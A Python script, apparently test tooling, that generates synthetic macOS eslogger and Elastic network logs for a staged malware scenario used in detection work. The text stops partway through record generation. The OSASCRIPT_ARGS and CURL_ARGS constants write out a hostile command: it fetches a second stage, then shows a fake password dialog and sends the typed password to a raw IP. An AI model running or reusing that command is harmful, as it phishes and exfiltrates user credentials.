"""Generate the bundled mac-01 samples: eslogger JSON lines and the Elastic Defend network documents.

One story on host ``mac-01`` (macOS 15.6, Apple Silicon), told by three sources that must agree on pids and times:

- ``events/mac-01/unifiedlog.ndjson`` (kept by hand, not written here): runningboardd tracks Safari as pid 812 at
  09:15:02Z; at 09:16:48Z Finder opens ``~/Downloads/UpdateHelper.app``, lsd translocates it, syspolicyd scans it
  and shows the Gatekeeper prompt, the rejection record is cleared at 09:16:57.604Z and runningboardd tracks
  ``com.example.UpdateHelper`` as pid 1377 at 09:16:57.703Z;
- ``events/mac-01/eslogger.jsonl`` (written here): Endpoint Security as ``eslogger`` prints it on macOS 15
  (message version 9, audit tokens as objects, ``/`` escaped as ``\\/``, nanosecond ``time``, key order varying
  between and within lines). Safari's ``com.apple.WebKit.Networking`` downloads ``UpdateHelper.zip`` through a
  ``.download`` bundle and quarantines it, Archive Utility extracts ``UpdateHelper.app`` (propagating the
  quarantine), syspolicyd reports the user's Gatekeeper override (event 146), launchd starts the translocated
  ad-hoc signed ``UpdateHelper`` (pid 1377), which runs ``/bin/sh -c "curl ... && osascript -e ..."``: the
  ``/bin/sh`` shim re-execs ``/bin/bash``, which forks curl (pid 1381) and then an osascript credential prompt
  (``display dialog ... with hidden answer``, pid 1382) that sends the answer out; everything exits. Benign noise:
  a Safari WebContent helper, a developer's Terminal ``login -> zsh -> curl`` and an unrelated daemon exit;
- ``events/mac-01/elastic-network.ndjson`` (written here): Elastic Defend ``connection_attempted`` of
  the osascript (raw IP) and curl (by name) children, and curl's ``disconnect_received``;
  ``events/mac-01/elastic-network-terminal.ndjson``: the developer's curl. Elastic entity ids are another id space
  (base64 of ``<agent.id>-<pid>-<seconds since 1601>.<ns>``), so these join the Endpoint Security processes by pid
  within their lifetimes only.

Message version 9 (macOS 15) has no ``cs_validation_category`` (added in version 10, macOS 26): the ad-hoc
signature shows as ``team_id`` null, ``is_platform_binary`` false and ``CS_ADHOC`` in ``codesigning_flags``.

Deterministic: no clock, no randomness; key order is scrambled with a hash of the line and the key. Run
``.venv/bin/python scripts/make_samples.py`` to rewrite the files, ``--check`` to verify they are up to date.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import shlex
import sys
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson

ROOT = Path(__file__).resolve().parents[1]
ESLOGGER_OUT = ROOT / "events" / "mac-01" / "eslogger.jsonl"
ECS_CHAIN_OUT = ROOT / "events" / "mac-01" / "elastic-network.ndjson"
ECS_NOISE_OUT = ROOT / "events" / "mac-01" / "elastic-network-terminal.ndjson"

NS = 1_000_000_000
DAY = "2026-03-02"
#: The unified log's clock anchor: ``machTimestamp`` 412934165711160 at 10:15:02.104215+0100 (24 MHz ticks).
MACH_ANCHOR_NS = 1_772_442_902_104_215_000
MACH_ANCHOR_TICKS = 412_934_165_711_160
#: Seconds from 1601-01-01 (Elastic entity-id start times) to 1970-01-01.
EPOCH_1601_OFFSET_S = 11_644_473_600

USER_HOME = "/Users/alice"
DOWNLOADS = f"{USER_HOME}/Downloads"
TMPDIR = "/var/folders/x4/abcd1234/T/"
TRANSLOCATED = ("/private/var/folders/x4/abcd1234/T/AppTranslocation/6A1F3C2E-0D4B-4F1A-9C3E-2B7D8E9F0A11/d/"
                "UpdateHelper.app")
#: runningboardd's job labels for the apps, as the unified log prints them.
SAFARI_JOB = "application.com.apple.Safari.1152921500311884871.1152921500311884879"
UPDATER_JOB = "application.com.example.UpdateHelper.2051882.2051890"
ARCHIVER_JOB = "application.com.apple.archiveutility.2051776.2051783"

# codesigning_flags (cs_blobs.h): Apple platform binaries (CS_VALID|CS_HARD|CS_KILL|CS_RESTRICT|CS_ENFORCEMENT|
# CS_ENTITLEMENTS_VALIDATED|CS_RUNTIME|CS_DYLD_PLATFORM|CS_PLATFORM_BINARY|CS_SIGNED, as on the real ipconfig line)
# and an ad-hoc signature (CS_VALID|CS_ADHOC|CS_KILL|CS_DYLD_PLATFORM|CS_SIGNED).
FLAGS_APPLE = 0x26015B11
FLAGS_ADHOC = 0x22000203
CPU_ARM64 = 16_777_228
SUBTYPE_ARM64E = -2_147_483_646  # CPU_SUBTYPE_ARM64E with the pointer-authentication ABI bit, as an int32
SUBTYPE_ARM64 = 0

DEV_SYSTEM = 16_777_233
DEV_DATA = 16_777_234
DEV_CRYPTEX_APP = 16_777_240
DEV_TRANSLOCATION = 687_865_871  # the read-only nullfs mount lsd creates for the translocated copy

SYSTEM_BUILD = "2025-07-12T03:11:41.000000000Z"
#: launchd's start: mac-01 last booted (into macOS 15.6) on 2025-08-12.
BOOT_NS = 1_754_983_906_218_004_000


def at(clock: str) -> int:
    """``HH:MM:SS.fffffffff`` on the story's day (UTC) in nanoseconds since the epoch."""
    whole, _, fraction = clock.partition(".")
    base = datetime.fromisoformat(f"{DAY}T{whole}+00:00")
    return int(base.timestamp()) * NS + int(fraction.ljust(9, "0")[:9])


def iso_ns(time_ns: int) -> str:
    """RFC 3339 with nine fractional digits, UTC (eslogger ``time`` and stat times)."""
    seconds, fraction = divmod(time_ns, NS)
    return datetime.fromtimestamp(seconds, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S") + f".{fraction:09d}Z"


def iso_us(time_ns: int) -> str:
    """RFC 3339 with six fractional digits, UTC (eslogger ``start_time``)."""
    seconds, fraction = divmod(time_ns, NS)
    return datetime.fromtimestamp(seconds, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S") + f".{fraction // 1000:06d}Z"


def mach_ticks(time_ns: int) -> int:
    """``mach_absolute_time`` at ``time_ns`` on this boot (the unified log's clock: 24 ticks per microsecond)."""
    return MACH_ANCHOR_TICKS + (time_ns - MACH_ANCHOR_NS) * 24 // 1000


def _digest(*parts: object) -> bytes:
    return hashlib.sha256("\x1f".join(map(str, parts)).encode()).digest()


def scramble(value: Any, salt: str) -> Any:
    """The same JSON value with the keys of every object in a hash-determined order.

    eslogger's key order is not stable between lines or within them (it comes from Swift dictionaries); the
    samples keep that property without randomness.
    """
    if isinstance(value, dict):
        keys = sorted(value, key=lambda k: _digest(salt, k))
        return {k: scramble(value[k], f"{salt}/{k}") for k in keys}
    if isinstance(value, list):
        return [scramble(item, f"{salt}/{i}") for i, item in enumerate(value)]
    return value


# -- files -------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Inode:
    """What ``stat(2)`` says about one file."""

    ino: int
    size: int
    mode: int = 0o100644
    uid: int = 501
    gid: int = 20
    dev: int = DEV_DATA
    nlink: int = 1
    flags: int = 0
    rdev: int = 0
    birth: str = SYSTEM_BUILD
    modified: str = SYSTEM_BUILD
    changed: str = SYSTEM_BUILD
    accessed: str = SYSTEM_BUILD
    blksize: int = 4096


def stat_of(node: Inode) -> dict[str, Any]:
    """The ``stat`` block eslogger prints for a file (directories and devices have no blocks)."""
    blocks = 0 if node.mode & 0o170000 in (0o040000, 0o020000) else -(-node.size // 4096) * 8
    return {
        "st_dev": node.dev, "st_ino": node.ino, "st_mode": node.mode, "st_nlink": node.nlink, "st_uid": node.uid,
        "st_gid": node.gid, "st_rdev": node.rdev, "st_size": node.size, "st_blocks": blocks,
        "st_blksize": node.blksize, "st_flags": node.flags, "st_gen": 0, "st_atimespec": node.accessed,
        "st_mtimespec": node.modified, "st_ctimespec": node.changed, "st_birthtimespec": node.birth,
    }


def file_obj(path: str, node: Inode) -> dict[str, Any]:
    """An ``es_file_t``."""
    return {"path": path, "path_truncated": False, "stat": stat_of(node)}


def system_binary(ino: int, size: int, *, dev: int = DEV_SYSTEM) -> Inode:
    """A binary on the sealed system volume: root-owned, built with the OS, ``SF_RESTRICTED|UF_COMPRESSED``."""
    return Inode(ino=ino, size=size, mode=0o100755, uid=0, gid=0, dev=dev, flags=0x80020,
                 accessed="2025-08-12T07:31:52.104113000Z")


def directory(ino: int, entries: int, when: str, *, uid: int = 501) -> Inode:
    """A folder created (and last changed) at ``when`` holding ``entries`` items."""
    return Inode(ino=ino, size=64 + 32 * entries, mode=0o040755, uid=uid, gid=20 if uid else 0,
                 nlink=2 + entries, birth=when, modified=when, changed=when, accessed=when)


def fresh(ino: int, size: int, when: str, *, mode: int = 0o100644, dev: int = DEV_DATA) -> Inode:
    """A user file created at ``when``."""
    return Inode(ino=ino, size=size, mode=mode, birth=when, modified=when, changed=when, accessed=when, dev=dev)


# -- processes ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Binary:
    """An executable image on disk and its code signature."""

    path: str
    signing_id: str
    inode: Inode
    team_id: str | None = None
    platform: bool = True
    flags: int = FLAGS_APPLE
    subtype: int = SUBTYPE_ARM64E

    @property
    def cdhash(self) -> str:
        return hashlib.sha1(f"{self.path}\x1f{self.signing_id}".encode(), usedforsecurity=False).hexdigest().upper()


@dataclass(frozen=True)
class Cred:
    """The credential fields of an audit token."""

    auid: int
    euid: int
    egid: int
    ruid: int
    rgid: int
    asid: int


ROOT_CRED = Cred(auid=4_294_967_295, euid=0, egid=0, ruid=0, rgid=0, asid=100_000)
ALICE = Cred(auid=501, euid=501, egid=20, ruid=501, rgid=20, asid=100_006)
ALICE_LOGIN = Cred(auid=501, euid=0, egid=20, ruid=501, rgid=20, asid=100_019)  # setuid-root login(1)
ALICE_TTY = Cred(auid=501, euid=501, egid=20, ruid=501, rgid=20, asid=100_019)


@dataclass(frozen=True)
class Image:
    """One process image: ``(pid, pidversion)`` and what runs in it."""

    pid: int
    pidversion: int
    binary: Binary
    cred: Cred
    ppid: int
    parent: Image | None
    start_ns: int
    group_id: int
    session_id: int
    responsible: Image | None = None  # None: the process is responsible for itself
    tty: dict[str, Any] | None = None

    def token(self) -> dict[str, int]:
        """The audit token as an object (message version 9)."""
        c = self.cred
        return {"auid": c.auid, "euid": c.euid, "egid": c.egid, "ruid": c.ruid, "rgid": c.rgid, "pid": self.pid,
                "asid": c.asid, "pidversion": self.pidversion}

    def process(self) -> dict[str, Any]:
        """The ``es_process_t`` object (message version 9)."""
        parent = self.parent.token() if self.parent is not None else self.token()
        responsible = self.responsible.token() if self.responsible is not None else self.token()
        return {
            "audit_token": self.token(),
            "ppid": self.ppid,
            "original_ppid": self.ppid,
            "group_id": self.group_id,
            "session_id": self.session_id,
            "codesigning_flags": self.binary.flags,
            "is_platform_binary": self.binary.platform,
            "is_es_client": False,
            "cdhash": self.binary.cdhash,
            "signing_id": self.binary.signing_id,
            "team_id": self.binary.team_id,
            "executable": file_obj(self.binary.path, self.binary.inode),
            "tty": self.tty,
            "start_time": iso_us(self.start_ns),
            "responsible_audit_token": responsible,
            "parent_audit_token": parent,
        }

    def forked(self, pid: int, pidversion: int, time_ns: int, *, cred: Cred | None = None,
               group_id: int | None = None, session_id: int | None = None) -> Image:
        """The child of a ``fork``: this image copied into a new pid."""
        return Image(pid=pid, pidversion=pidversion, binary=self.binary, cred=cred or self.cred, ppid=self.pid,
                     parent=self, start_ns=time_ns, group_id=self.group_id if group_id is None else group_id,
                     session_id=self.session_id if session_id is None else session_id,
                     responsible=self.responsible or self, tty=self.tty)

    def execs(self, binary: Binary, *, cred: Cred | None = None, responsible: Image | None = None,
              self_responsible: bool = False) -> Image:
        """The image after ``exec``: same pid and start time, next pidversion."""
        return replace(self, pidversion=self.pidversion + 1, binary=binary, cred=cred or self.cred,
                       responsible=None if self_responsible else (responsible or self.responsible))


# -- the binaries on mac-01 ---------------------------------------------------------------------------------------

CRYPTEX_SAFARI = "/System/Volumes/Preboot/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari"
WEBKIT_XPC = "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices"
ARCHIVE_UTILITY = "/System/Library/CoreServices/Applications/Archive Utility.app/Contents/MacOS/Archive Utility"
MDWORKER = ("/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/"
            "Support/mdworker_shared")

LAUNCHD = Binary("/sbin/launchd", "com.apple.xpc.launchd", system_binary(1_152_921_500_311_880_193, 963_968))
XPCPROXY = Binary("/usr/libexec/xpcproxy", "com.apple.xpc.proxy", system_binary(1_152_921_500_311_889_512, 136_880))
SAFARI = Binary(CRYPTEX_SAFARI, "com.apple.Safari", system_binary(4_120, 104_480, dev=DEV_CRYPTEX_APP))
NETWORKING = Binary(f"{WEBKIT_XPC}/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking",
                    "com.apple.WebKit.Networking", system_binary(1_152_921_500_312_113_877, 138_432))
WEBCONTENT = Binary(f"{WEBKIT_XPC}/com.apple.WebKit.WebContent.xpc/Contents/MacOS/com.apple.WebKit.WebContent",
                    "com.apple.WebKit.WebContent", system_binary(1_152_921_500_312_113_931, 138_400))
ARCHIVER = Binary(ARCHIVE_UTILITY, "com.apple.archiveutility", system_binary(1_152_921_500_311_997_406, 1_006_752))
SYSPOLICYD = Binary("/usr/libexec/syspolicyd", "com.apple.syspolicyd",
                    system_binary(1_152_921_500_311_890_817, 3_412_608))
SH = Binary("/bin/sh", "com.apple.sh", system_binary(1_152_921_500_311_879_961, 101_232))
BASH = Binary("/bin/bash", "com.apple.bash", system_binary(1_152_921_500_311_879_942, 1_310_224))
ZSH = Binary("/bin/zsh", "com.apple.zsh", system_binary(1_152_921_500_311_879_975, 1_361_200))
CURL = Binary("/usr/bin/curl", "com.apple.curl", system_binary(1_152_921_500_311_883_317, 240_224))
OSASCRIPT = Binary("/usr/bin/osascript", "com.apple.osascript", system_binary(1_152_921_500_311_884_870, 155_232))
LOGIN = Binary("/usr/bin/login", "com.apple.login", system_binary(1_152_921_500_311_884_210, 171_424))
TERMINAL = Binary("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "com.apple.Terminal",
                  system_binary(1_152_921_500_311_985_772, 2_091_088))
MDWORKER_SHARED = Binary(MDWORKER, "com.apple.mdworker_shared", system_binary(1_152_921_500_311_923_150, 188_416))

DOWNLOADED_AT = "2026-03-02T09:15:43.872310442Z"
EXTRACTED_AT = "2026-03-02T09:16:10.127804115Z"
UPDATER_INODE = Inode(ino=31_442_918, size=1_183_408, mode=0o100755, dev=DEV_TRANSLOCATION, birth=EXTRACTED_AT,
                      modified="2026-02-27T18:40:12.000000000Z", changed="2026-03-02T09:16:10.131266905Z",
                      accessed="2026-03-02T09:16:49.104433218Z")
UPDATER = Binary(f"{TRANSLOCATED}/Contents/MacOS/UpdateHelper", "com.example.UpdateHelper", UPDATER_INODE,
                 team_id=None, platform=False, flags=FLAGS_ADHOC, subtype=SUBTYPE_ARM64)

# -- environments --------------------------------------------------------------------------------------------------


def gui_env(job: str, bundle_id: str) -> list[str]:
    """What launchd gives an app it starts for the user."""
    return [
        "SHELL=/bin/zsh", f"TMPDIR={TMPDIR}", f"HOME={USER_HOME}", "USER=alice", "LOGNAME=alice",
        "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "SSH_AUTH_SOCK=/private/tmp/com.apple.launchd.Q2cXp8yTfa/Listeners",
        "XPC_FLAGS=0x0", f"XPC_SERVICE_NAME={job}", "COMMAND_MODE=unix2003", f"__CFBundleIdentifier={bundle_id}",
        "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0",
    ]


def xpc_env(service: str) -> list[str]:
    """What launchd gives an XPC service it starts for the user's app."""
    return [f"TMPDIR={TMPDIR}", f"HOME={USER_HOME}", "USER=alice", "LOGNAME=alice",
            "PATH=/usr/bin:/bin:/usr/sbin:/sbin", "XPC_FLAGS=0x0", f"XPC_SERVICE_NAME={service}",
            "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0"]


TERMINAL_ENV = [
    "TERM_PROGRAM=Apple_Terminal", "TERM=xterm-256color", "SHELL=/bin/zsh", f"TMPDIR={TMPDIR}",
    "TERM_PROGRAM_VERSION=455.1", "TERM_SESSION_ID=3C1E8B54-9F2A-4D67-A0B1-7E6F5D4C3B2A", "USER=alice",
    "SSH_AUTH_SOCK=/private/tmp/com.apple.launchd.Q2cXp8yTfa/Listeners", "PATH=/usr/bin:/bin:/usr/sbin:/sbin",
    "__CFBundleIdentifier=com.apple.Terminal", "XPC_FLAGS=0x0", "XPC_SERVICE_NAME=0", "LANG=en_US.UTF-8",
    "__CF_USER_TEXT_ENCODING=0x1F5:0x0:0x0",
]
DEV_NULL_FDS = [{"fdtype": 1, "fd": 0}, {"fdtype": 1, "fd": 1}, {"fdtype": 1, "fd": 2}]

# What UpdateHelper runs: fetch a second stage, then phish the login password with an AppleScript dialog and send
# it out with AppleScriptObjC (osascript itself connects; no child process shows the exfiltration).
PAYLOAD_URL = "https://cdn.update-check.example/p"
OSASCRIPT_ARGS = [
    "osascript",
    "-e", 'use framework "Foundation"',
    "-e", "use scripting additions",
    "-e", 'set p to text returned of (display dialog "UpdateHelper needs your password to finish installing the '
          'update." default answer "" with title "System Preferences" with icon caution with hidden answer)',
    "-e", "current application's NSData's dataWithContentsOfURL:(current application's NSURL's URLWithString:"
          '("https://185.199.108.133/c?u=alice&p=" & p))',
]
CURL_ARGS = ["curl", "-fsSL", PAYLOAD_URL, "-o", "/private/tmp/.p"]
SH_COMMAND = f"{shlex.join(CURL_ARGS)} && {shlex.join(OSASCRIPT_ARGS)}"
DEV_CURL_ARGS = ["curl", "-fsSL", "https://api.github.com/repos/alice/dotfiles/releases/latest"]

# -- the eslogger writer --------------------------------------------------------------------------------------------

EVENT_TYPES = {
    "exec": 9, "open": 10, "fork": 11, "close": 12, "create": 13, "exit": 15, "rename": 25, "setextattr": 27,
    "unlink": 32, "gatekeeper_user_override": 146,
}


@dataclass
class EsLog:
    """Collects eslogger records with the per-type and global sequence numbers of one ES client."""

    lines: list[bytes] = field(default_factory=list)
    seq: dict[str, int] = field(default_factory=dict)
    global_seq: int = 18_204

    def emit(self, time_ns: int, process: Image, name: str, payload: dict[str, Any]) -> None:
        seq = self.seq.get(name, {"exec": 2_310, "fork": 2_188, "exit": 2_391}.get(name, 96))
        self.seq[name] = seq + 1
        self.global_seq += 1
        thread = 100_000 + int.from_bytes(_digest("thread", process.pid, process.pidversion)[:3]) % 900_000
        record = {
            "schema_version": 1,
            "version": 9,
            "time": iso_ns(time_ns),
            "mach_time": mach_ticks(time_ns),
            "event_type": EVENT_TYPES[name],
            "action_type": 1,
            "action": {"result": {"result": {"auth": 0}, "result_type": 0}},
            "seq_num": seq,
            "global_seq_num": self.global_seq,
            "thread": {"thread_id": thread},
            "process": process.process(),
            "event": {name: payload},
        }
        text = orjson.dumps(scramble(record, f"line{self.global_seq}"))
        # eslogger (Foundation's JSON writer) escapes every "/"; "/" only ever occurs inside JSON strings.
        self.lines.append(text.replace(b"/", b"\\/"))

    def fork(self, time_ns: int, parent: Image, child: Image) -> None:
        self.emit(time_ns, parent, "fork", {"child": child.process()})

    def exec(self, time_ns: int, before: Image, after: Image, args: list[str], *, env: list[str], cwd: str,
             cwd_inode: Inode, fds: list[dict[str, int]] | None = None) -> None:
        fds = fds if fds is not None else DEV_NULL_FDS
        self.emit(time_ns, before, "exec", {
            "target": after.process(), "args": args, "env": env, "cwd": file_obj(cwd, cwd_inode), "script": None,
            "dyld_exec_path": after.binary.path, "fds": fds, "last_fd": max(fd["fd"] for fd in fds),
            "image_cputype": CPU_ARM64, "image_cpusubtype": after.binary.subtype,
        })

    def exit(self, time_ns: int, process: Image, status: int = 0) -> None:
        self.emit(time_ns, process, "exit", {"stat": status << 8})

    def create(self, time_ns: int, process: Image, path: str, node: Inode) -> None:
        self.emit(time_ns, process, "create", {"destination_type": 0,
                                               "destination": {"existing_file": file_obj(path, node)}, "acl": None})

    def close(self, time_ns: int, process: Image, path: str, node: Inode) -> None:
        self.emit(time_ns, process, "close", {"modified": True, "was_mapped_writable": False,
                                              "target": file_obj(path, node)})

    def setxattr(self, time_ns: int, process: Image, path: str, node: Inode, name: str) -> None:
        self.emit(time_ns, process, "setextattr", {"target": file_obj(path, node), "extattr": name})


ROOT_DIR = Inode(ino=2, size=704, mode=0o040755, uid=0, gid=0, dev=DEV_SYSTEM, nlink=22)
HOME_DIR = directory(386_251, 24, "2025-08-12T07:40:31.008215000Z")
SRC_DIR = directory(1_903_377, 9, "2026-02-26T16:02:44.311907000Z")


def eslogger_lines() -> list[bytes]:
    """The whole eslogger capture, in delivery order."""
    log = EsLog()
    boot = BOOT_NS
    kernel = Image(pid=0, pidversion=0, binary=LAUNCHD, cred=ROOT_CRED, ppid=0, parent=None, start_ns=boot,
                   group_id=0, session_id=0)  # only its audit token is printed (launchd's parent)
    launchd = Image(pid=1, pidversion=1012, binary=LAUNCHD, cred=ROOT_CRED, ppid=0, parent=kernel, start_ns=boot,
                    group_id=1, session_id=1)
    syspolicyd = Image(pid=355, pidversion=1804, binary=SYSPOLICYD, cred=ROOT_CRED, ppid=1, parent=launchd,
                       start_ns=boot + 9_511_004_000, group_id=355, session_id=355)
    terminal = Image(pid=640, pidversion=9120, binary=TERMINAL, cred=ALICE, ppid=1, parent=launchd,
                     start_ns=at("08:02:13.550871"), group_id=640, session_id=1)
    mdworker = Image(pid=1391, pidversion=42_410, binary=MDWORKER_SHARED, cred=ALICE, ppid=1, parent=launchd,
                     start_ns=at("09:17:00.402118"), group_id=1391, session_id=1)

    def launch_app(pid: int, pidversion: int, fork_at: str, proxy_at: str, exec_at: str, binary: Binary, job: str,
                   bundle_id: str | None, *, responsible: Image | None = None) -> Image:
        """launchd fork -> xpcproxy -> the app or XPC service (what launchd does for every job)."""
        child = launchd.forked(pid, pidversion, at(fork_at), group_id=pid, session_id=1)
        log.fork(at(fork_at), launchd, child)
        proxy = child.execs(XPCPROXY, self_responsible=True)
        log.exec(at(proxy_at), child, proxy, ["xpcproxy", job], env=[], cwd="/", cwd_inode=ROOT_DIR)
        proxy_as_user = replace(proxy, cred=ALICE)  # xpcproxy drops to the user before it execs the job
        app = proxy_as_user.execs(binary, responsible=responsible, self_responsible=responsible is None)
        env = gui_env(job, bundle_id) if bundle_id else xpc_env(job)
        log.exec(at(exec_at), proxy_as_user, app, [binary.path], env=env, cwd="/", cwd_inode=ROOT_DIR)
        return app

    # 09:15:02 Safari starts (runningboardd tracks pid 812), with its network and web content helpers.
    safari = launch_app(812, 40_817, "09:15:02.110512417", "09:15:02.111830254", "09:15:02.115207931", SAFARI,
                        SAFARI_JOB, "com.apple.Safari")
    networking = launch_app(815, 40_826, "09:15:02.408220764", "09:15:02.409013277", "09:15:02.413110952",
                            NETWORKING, "com.apple.WebKit.Networking", None, responsible=safari)
    launch_app(818, 40_834, "09:15:02.521174090", "09:15:02.521880613", "09:15:02.526301487", WEBCONTENT,
               "com.apple.WebKit.WebContent", None, responsible=safari)

    # 09:15:41 the download: a UpdateHelper.zip.download bundle, renamed into place and quarantined.
    bundle = f"{DOWNLOADS}/UpdateHelper.zip.download"
    started = "2026-03-02T09:15:41.305114008Z"
    log.create(at("09:15:41.305114008"), networking, bundle, directory(31_442_871, 0, started))
    plist = fresh(31_442_872, 0, "2026-03-02T09:15:41.306002318Z")
    log.create(at("09:15:41.306002318"), networking, f"{bundle}/Info.plist", plist)
    log.close(at("09:15:41.307451902"), networking, f"{bundle}/Info.plist", replace(plist, size=512))
    archive = fresh(31_442_873, 0, "2026-03-02T09:15:41.309877126Z")
    log.create(at("09:15:41.309877126"), networking, f"{bundle}/UpdateHelper.zip", archive)
    archive = replace(archive, size=498_112, modified=DOWNLOADED_AT, changed=DOWNLOADED_AT)
    log.close(at("09:15:43.872310442"), networking, f"{bundle}/UpdateHelper.zip", archive)
    zip_path = f"{DOWNLOADS}/UpdateHelper.zip"
    downloads_dir = directory(388_004, 17, "2026-03-02T09:15:43.880544375Z")
    log.emit(at("09:15:43.880544375"), networking, "rename", {
        "source": file_obj(f"{bundle}/UpdateHelper.zip", archive), "destination_type": 1,
        "destination": {"new_path": {"dir": file_obj(DOWNLOADS, downloads_dir), "filename": "UpdateHelper.zip"}},
    })
    for time, name in (("09:15:43.881203761", "com.apple.metadata:kMDItemWhereFroms"),
                       ("09:15:43.881622904", "com.apple.quarantine")):
        log.setxattr(at(time), networking, zip_path, archive, name)
    log.emit(at("09:15:43.884019337"), networking, "unlink", {
        "target": file_obj(f"{bundle}/Info.plist", replace(plist, size=512)),
        "parent_dir": file_obj(bundle, directory(31_442_871, 1, started)),
    })
    log.emit(at("09:15:43.884511820"), networking, "unlink", {
        "target": file_obj(bundle, directory(31_442_871, 0, started)),
        "parent_dir": file_obj(DOWNLOADS, downloads_dir),
    })

    # 09:16:09 the user opens the zip: Archive Utility extracts UpdateHelper.app and quarantines every item.
    archiver = launch_app(1342, 42_210, "09:16:09.744120583", "09:16:09.744901226", "09:16:09.751337014", ARCHIVER,
                          ARCHIVER_JOB, "com.apple.archiveutility")
    log.emit(at("09:16:10.102344719"), archiver, "open", {"fflag": 1, "file": file_obj(zip_path, archive)})
    app = f"{DOWNLOADS}/UpdateHelper.app"
    items = [
        ("09:16:10.118702330", app, directory(31_442_911, 1, "2026-03-02T09:16:10.118702330Z"), 0),
        ("09:16:10.120114857", f"{app}/Contents", directory(31_442_912, 3, "2026-03-02T09:16:10.120114857Z"), 0),
        ("09:16:10.121036442", f"{app}/Contents/Info.plist", fresh(31_442_913, 1_214, "2026-03-02T09:16:10.121036442Z"),
         1),
        ("09:16:10.122871105", f"{app}/Contents/_CodeSignature",
         directory(31_442_914, 1, "2026-03-02T09:16:10.122871105Z"), 0),
        ("09:16:10.123390688", f"{app}/Contents/_CodeSignature/CodeResources",
         fresh(31_442_915, 2_245, "2026-03-02T09:16:10.123390688Z"), 1),
        ("09:16:10.125512076", f"{app}/Contents/MacOS", directory(31_442_916, 1, "2026-03-02T09:16:10.125512076Z"), 0),
        ("09:16:10.127804115", f"{app}/Contents/MacOS/UpdateHelper",
         replace(UPDATER_INODE, dev=DEV_DATA, size=0, changed=EXTRACTED_AT, accessed=EXTRACTED_AT), 1),
    ]
    step = 0
    for time, path, node, is_file in items:
        created = at(time)
        log.create(created, archiver, path, node)
        if is_file:
            final = replace(UPDATER_INODE, dev=DEV_DATA) if path.endswith("/UpdateHelper") else node
            step += 1
            log.close(created + 3_071_000 * step, archiver, path, final)
            log.setxattr(created + 3_071_000 * step + 418_000, archiver, path, final, "com.apple.quarantine")
        else:
            log.setxattr(created + 402_000, archiver, path, node, "com.apple.quarantine")
    log.exit(at("09:16:13.402227810"), archiver)

    # 09:16:48 Finder opens the app; the unified log shows translocation, the scan and the prompt. The user
    # overrides Gatekeeper (syspolicyd reports it) and launchd starts the translocated copy as pid 1377.
    log.emit(at("09:16:57.598340126"), syspolicyd, "gatekeeper_user_override", {
        "file_type": 1,
        "file": file_obj(app, directory(31_442_911, 1, "2026-03-02T09:16:10.118702330Z")),
        "sha256": None,
        "signing_info": {"cdhash": UPDATER.cdhash, "signing_id": UPDATER.signing_id, "team_id": None},
    })
    updater = launch_app(1377, 42_388, "09:16:57.690118204", "09:16:57.690874431", "09:16:57.699402218", UPDATER,
                         UPDATER_JOB, "com.example.UpdateHelper")

    # UpdateHelper: /bin/sh -c "curl ... && osascript ...", the sh shim re-execs bash, bash forks each command.
    uh_env = gui_env(UPDATER_JOB, "com.example.UpdateHelper")
    fork_1380 = updater.forked(1380, 42_397, at("09:16:58.912407655"), cred=ALICE)
    log.fork(at("09:16:58.912407655"), updater, fork_1380)
    sh = fork_1380.execs(SH, responsible=updater)
    sh_args = ["/bin/sh", "-c", SH_COMMAND]
    log.exec(at("09:16:58.915133020"), fork_1380, sh, sh_args, env=uh_env, cwd="/", cwd_inode=ROOT_DIR)
    bash = sh.execs(BASH, responsible=updater)
    log.exec(at("09:16:58.916802541"), sh, bash, sh_args, env=uh_env, cwd="/", cwd_inode=ROOT_DIR)
    child_env = [*uh_env, "PWD=/", "SHLVL=1"]

    fork_1381 = bash.forked(1381, 42_401, at("09:16:58.920311874"))
    log.fork(at("09:16:58.920311874"), bash, fork_1381)
    curl = fork_1381.execs(CURL, responsible=updater)
    log.exec(at("09:16:58.922716093"), fork_1381, curl, CURL_ARGS, env=[*child_env, "_=/usr/bin/curl"], cwd="/",
             cwd_inode=ROOT_DIR)
    stage2 = fresh(31_443_006, 0, "2026-03-02T09:16:59.388122570Z", dev=DEV_DATA)
    log.create(at("09:16:59.388122570"), curl, "/private/tmp/.p", stage2)
    log.close(at("09:16:59.517336981"), curl, "/private/tmp/.p",
              replace(stage2, size=86_736, modified="2026-03-02T09:16:59.517336981Z"))
    log.exit(at("09:16:59.640235118"), curl)

    fork_1382 = bash.forked(1382, 42_404, at("09:16:59.643187302"))
    log.fork(at("09:16:59.643187302"), bash, fork_1382)
    osascript = fork_1382.execs(OSASCRIPT, responsible=updater)
    log.exec(at("09:16:59.645908716"), fork_1382, osascript, OSASCRIPT_ARGS,
             env=[*child_env, "_=/usr/bin/osascript"], cwd="/", cwd_inode=ROOT_DIR)
    log.exit(at("09:17:05.311904227"), mdworker)  # unrelated: Spotlight's worker idles out
    log.exit(at("09:17:18.904122659"), osascript)
    log.exit(at("09:17:18.906540112"), bash)
    log.exit(at("09:17:19.402871336"), updater)

    # 09:18 a developer's own curl from Terminal (Terminal is not an AN1316 app: no chain).
    tty = file_obj("/dev/ttys001", Inode(ino=1_219, size=0, mode=0o020620, gid=4, dev=1_333_267_060,
                                          rdev=268_435_457, blksize=65_536, birth="1970-01-01T00:00:00.000000000Z",
                                          modified="2026-03-02T09:18:40.221904000Z",
                                          changed="2026-03-02T09:18:40.221904000Z",
                                          accessed="2026-03-02T09:18:40.219377000Z"))
    tty_fds = [{"fdtype": 1, "fd": 0}, {"fdtype": 1, "fd": 1}, {"fdtype": 1, "fd": 2}]
    fork_2131 = terminal.forked(2131, 43_610, at("09:18:40.215530981"), group_id=2131, session_id=2131)
